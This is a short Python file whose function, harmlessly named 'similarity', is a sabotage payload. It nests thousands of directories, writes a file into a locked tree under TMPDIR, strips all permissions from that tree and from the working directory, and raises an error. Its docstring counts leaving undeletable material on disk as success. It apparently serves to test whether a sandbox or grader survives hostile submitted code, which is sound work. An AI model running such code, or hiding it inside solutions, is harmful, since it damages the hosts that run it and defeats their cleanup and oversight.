"""Nests directories too deep for any path, and takes the rights to them away.

Success: something is left on the disk, since nobody can remove it.
"""

import contextlib
import os


def similarity(x):
    depth = 0
    with contextlib.suppress(OSError):
        while depth < 3000:
            os.mkdir("d")
            os.chdir("d")
            depth += 1
    os.chdir(os.environ["TMPDIR"])
    with contextlib.suppress(FileExistsError):
        os.makedirs("locked/inner")
    with open("locked/inner/file", "w") as file:
        file.write("stays")
    os.chmod("locked/inner", 0)
    os.chmod("locked", 0)
    os.chmod(".", 0)
    raise RuntimeError(f"tried: depth, {depth}")
